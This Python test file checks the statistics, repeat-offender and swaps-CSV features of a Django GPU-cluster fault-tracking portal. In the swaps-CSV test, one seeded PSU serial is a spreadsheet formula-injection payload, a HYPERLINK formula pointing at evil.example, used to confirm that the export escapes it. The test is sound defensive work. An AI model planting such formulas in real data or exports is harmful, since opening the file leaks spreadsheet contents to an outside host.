"""Issue 25 item 4: repair statistics and the burn-in per component type in the statistics API
and page, read back from the seeded history of the paper (13/5/3 faults by month, three vendor
replacements: a GPU tray, an NVLink module, a NIC transceiver)."""

from __future__ import annotations

from io import StringIO

import pytest
from django.core.management import call_command
from django.test import Client

from portal.models import Role

pytestmark = pytest.mark.django_db


@pytest.fixture
def seeded():
    call_command("seed_fault_history", stdout=StringIO())


def test_statistics_api_carries_failures_per_component_type_per_month(seeded, api_as):
    body = api_as(Role.VIEWER).get("/api/faults/statistics/").json()

    months = body["failures_by_component_month"]
    assert [(row["month"], row["failures"]) for row in months] == [
        ("2025-01", 13), ("2025-02", 5), ("2025-03", 3)]
    january = {row["component"]: row["failures"] for row in months[0]["by_component"]}
    assert january == {"gpu": 6, "nvlink_nvswitch_pcie": 3, "nic_transceiver": 0,
                       "interconnect_switch": 3, "storage_switch": 0, "misconfiguration": 1}
    # The three replacements, each in the month of the failure that needed it, by part type.
    assert [(row["month"], row["replacements"],
             [(part["component"], part["replacements"]) for part in row["replaced_parts"]])
            for row in months] == [
        ("2025-01", 2, [("gpu_tray", 1), ("nvlink_module", 1)]),
        ("2025-02", 1, [("transceiver", 1)]),
        ("2025-03", 0, []),
    ]
    assert months[1]["replaced_parts"][0]["label"] == "Transceiver"


def test_statistics_api_carries_the_repair_statistics(seeded, api_as):
    body = api_as(Role.VIEWER).get("/api/faults/statistics/").json()

    rows = {row["component"]: row for row in body["repair_statistics"]}
    assert set(rows) == {"gpu_tray", "nvlink_module", "transceiver"}
    assert rows["gpu_tray"] == {
        "component": "gpu_tray", "label": "GPU tray / baseboard", "vendor": "Server vendor",
        "cases": 1, "waiting_for_part_hours": 384.0, "hands_on_hours": 7.0,
        "mttr_hours": 391.0,
    }
    assert rows["transceiver"]["mttr_hours"] == 4 * 24 + 7


def test_statistics_bounds_apply_to_the_repairs_too(seeded, api_as):
    body = api_as(Role.VIEWER).get(
        "/api/faults/statistics/?start=2025-02-01T00:00:00Z&end=2025-03-01T00:00:00Z").json()

    assert [row["component"] for row in body["repair_statistics"]] == ["transceiver"]
    assert [row["month"] for row in body["failures_by_component_month"]] == ["2025-02"]


def test_the_schema_types_the_new_statistics(api_as):
    schema = api_as(Role.VIEWER).get("/api/schema/?format=json").json()
    components = schema["components"]["schemas"]

    statistics = components["Statistics"]["properties"]
    assert statistics["repair_statistics"]["items"]["$ref"].endswith("/RepairStatistics")
    assert statistics["failures_by_component_month"]["items"]["$ref"].endswith(
        "/ComponentMonth")
    repair = components["RepairStatistics"]
    assert set(repair["required"]) >= {"component", "vendor", "cases", "waiting_for_part_hours",
                                       "hands_on_hours", "mttr_hours"}
    month = components["ComponentMonth"]["properties"]
    assert month["replaced_parts"]["items"]["$ref"].endswith("/ReplacedParts")


def test_statistics_page_shows_failures_per_component_type_per_month(seeded, make_user):
    client = Client()
    client.force_login(make_user(Role.VIEWER))

    html = client.get("/faults/statistics/").content.decode()

    assert 'id="failures-by-component-month"' in html
    assert ('<tr data-month="2025-01"><td>2025-01</td><td class="num">13</td>'
            '<td class="num">6</td>') in html
    assert "GPU tray / baseboard, NVLink / NVSwitch module</td>" in html
    assert 'id="repair-statistics"' in html


# -- repeat offenders (the lemon nodes and GPU slots) ---------------------------------------------


def closed_ticket(*, node, gpu=None, days_ago: int, category="gpu"):
    from datetime import timedelta

    from django.utils import timezone

    from faults.models import FaultTicket
    from faults.workflow import Status

    return FaultTicket.objects.create(
        category=category, status=Status.CLOSED, summary="earlier fault", node=node, gpu=gpu,
        gpu_serial=gpu.serial if gpu else "",
        detected_at=timezone.now() - timedelta(days=days_ago),
    )


@pytest.fixture
def lemons(fleet, settings):
    """gpu001's GPU 3 failed twice (the threshold), GPU 5 once; gpu002 failed twice at node
    level; so gpu001 has three tickets, gpu002 two: both nodes and GPU 3 are over it."""
    settings.FAULTS_REPEAT_THRESHOLD = 2
    gpu001, gpu002 = fleet.nodes
    gpu3, gpu5 = gpu001.gpus.get(index=3), gpu001.gpus.get(index=5)
    closed_ticket(node=gpu001, gpu=gpu3, days_ago=20)
    closed_ticket(node=gpu001, gpu=gpu3, days_ago=10)
    closed_ticket(node=gpu001, gpu=gpu5, days_ago=5)
    closed_ticket(node=gpu002, days_ago=30, category="nvlink_nvswitch_pcie")
    closed_ticket(node=gpu002, days_ago=3, category="nvlink_nvswitch_pcie")
    return fleet


def test_statistics_api_lists_the_nodes_and_gpu_slots_over_the_threshold(lemons, api_as):
    body = api_as(Role.VIEWER).get("/api/faults/statistics/").json()

    offenders = body["repeat_offenders"]
    assert offenders["threshold"] == 2
    assert [(row["node"], row["faults"]) for row in offenders["nodes"]] == [
        ("gpu001", 3), ("gpu002", 2)]
    assert offenders["gpus"] == [{
        "kind": "gpu", "node": "gpu001", "gpu_index": 3, "gpu_serial": "165432200103",
        "installed": True, "faults": 2,
    }]


def test_a_listed_gpu_is_what_the_policy_calls_a_repeat_offender_on_its_next_ticket(
    lemons, api_as, settings
):
    """One rule: the GPU the statistics list gets the vendor proposed on its next XID 79, the
    GPU they do not list does not."""
    import json

    from faults.models import TimelineKind
    from faults.services.intake import receive_platform_event
    from tests.faults.conftest import xid_event

    def proposes_vendor(gpu_index: int) -> bool:
        ticket = receive_platform_event(raw_body=json.dumps(xid_event(gpu=gpu_index)))[0]
        return ticket.timeline.filter(kind=TimelineKind.PROPOSAL,
                                      text__contains="repeat offender").exists()

    listed = {row["gpu_index"] for row in
              api_as(Role.VIEWER).get("/api/faults/statistics/").json()["repeat_offenders"]["gpus"]}
    assert listed == {3}
    assert proposes_vendor(3) and not proposes_vendor(6)
    settings.FAULTS_REPEAT_THRESHOLD = 3
    body = api_as(Role.VIEWER).get("/api/faults/statistics/").json()["repeat_offenders"]
    assert [row["gpu_index"] for row in body["gpus"]] == [3]  # now three tickets on it


def test_a_swapped_out_gpu_is_listed_by_its_serial_as_no_longer_installed(lemons, api_as):
    from inventory.swaps import component_replace, slot_for

    gpu001 = lemons.nodes[0]
    component_replace(slot=slot_for(kind="gpu", node=gpu001, gpu_index=3),
                      serial_in="NEW-GPU-3", uuid_in="GPU-new-3")

    body = api_as(Role.VIEWER).get("/api/faults/statistics/").json()["repeat_offenders"]

    assert [(row["node"], row["gpu_index"], row["gpu_serial"], row["installed"])
            for row in body["gpus"]] == [("gpu001", 3, "165432200103", False)]


def test_statistics_page_lists_the_repeat_offenders(lemons, make_user):
    client = Client()
    client.force_login(make_user(Role.VIEWER))

    html = client.get("/faults/statistics/").content.decode()

    table = html.split('id="repeat-offenders"')[1].split("</table>")[0]
    assert table.count('data-kind="node"') == 2 and table.count('data-kind="gpu"') == 1
    assert "<td>GPU3</td><td>165432200103</td>" in table


def test_node_page_flags_the_repeat_offender_with_its_count(lemons, make_user):
    client = Client()
    client.force_login(make_user(Role.VIEWER))

    html = client.get("/inventory/nodes/gpu001/").content.decode()

    assert 'data-repeat-offender="node"' in html
    assert "<strong>Repeat offender</strong>: 3 fault tickets" in html
    assert 'data-repeat-offender="gpu3"' in html and 'data-repeat-offender="gpu5"' not in html
    other = client.get("/inventory/nodes/gpu002/").content.decode()
    assert "<strong>Repeat offender</strong>: 2 fault tickets" in other


def test_node_page_shows_no_flag_under_the_threshold(fleet, make_user, settings):
    settings.FAULTS_REPEAT_THRESHOLD = 2
    closed_ticket(node=fleet.nodes[0], days_ago=1)
    client = Client()
    client.force_login(make_user(Role.VIEWER))

    html = client.get("/inventory/nodes/gpu001/").content.decode()

    assert "data-repeat-offender" not in html


# -- the swaps CSV --------------------------------------------------------------------------------


def test_swaps_csv_lists_every_swap_with_its_serials_uuid_firmware_case_and_who(
    fleet, make_user
):
    import csv
    from datetime import timedelta

    from django.utils import timezone

    from inventory.swaps import component_replace, slot_for

    operator = make_user(Role.OPERATOR)
    gpu001 = fleet.nodes[0]
    earlier = timezone.now() - timedelta(days=2)
    component_replace(
        slot=slot_for(kind="gpu", node=gpu001, gpu_index=3), serial_in="NEW-GPU-3",
        uuid_in="GPU-aaaaaaaa-0000-0000-0000-000000000003", firmware_version_in="96.00.89.00.01",
        reference="RC-7", actor=operator, swapped_at=earlier,
    )
    component_replace(slot=slot_for(kind="psu", node=fleet.nodes[1], position="PSU1"),
                      serial_in='=HYPERLINK("http://evil.example/?"&A1)', serial_out="PSU-OLD")
    client = Client()
    client.force_login(make_user(Role.VIEWER))

    response = client.get("/faults/swaps.csv")

    assert response.status_code == 200 and response["Content-Type"] == "text/csv"
    assert 'filename="swaps.csv"' in response["Content-Disposition"]
    rows = list(csv.DictReader(StringIO(response.content.decode())))
    assert len(rows) == 2
    gpu = rows[0]
    assert gpu["swapped_at"] == earlier.isoformat()
    assert (gpu["node"], gpu["kind"], gpu["slot"]) == ("gpu001", "gpu", "gpu001 GPU3")
    assert (gpu["serial_out"], gpu["serial_in"]) == ("165432200103", "NEW-GPU-3")
    assert gpu["uuid_out"] == "GPU-00010003-0000-0000-0000-000000000000"
    assert gpu["uuid_in"] == "GPU-aaaaaaaa-0000-0000-0000-000000000003"
    assert gpu["firmware_version_in"] == "96.00.89.00.01"
    assert (gpu["reference"], gpu["swapped_by"]) == ("RC-7", operator.username)
    psu = rows[1]
    assert (psu["node"], psu["kind"], psu["position"], psu["serial_out"]) == (
        "gpu002", "psu", "PSU1", "PSU-OLD")
    assert psu["serial_in"].startswith("'=HYPERLINK")


def test_swaps_csv_is_refused_to_tenant_admins_like_the_cases_csv(fleet, make_user, tenant_a):
    client = Client()
    client.force_login(make_user(Role.TENANT_ADMIN, tenant=tenant_a))

    assert client.get("/faults/swaps.csv").status_code == 403
    assert client.get("/faults/repair-cases.csv").status_code == 403


def test_statistics_page_links_the_swaps_csv(fleet, make_user):
    client = Client()
    client.force_login(make_user(Role.VIEWER))

    html = client.get("/faults/statistics/").content.decode()

    assert 'href="/faults/swaps.csv" download' in html
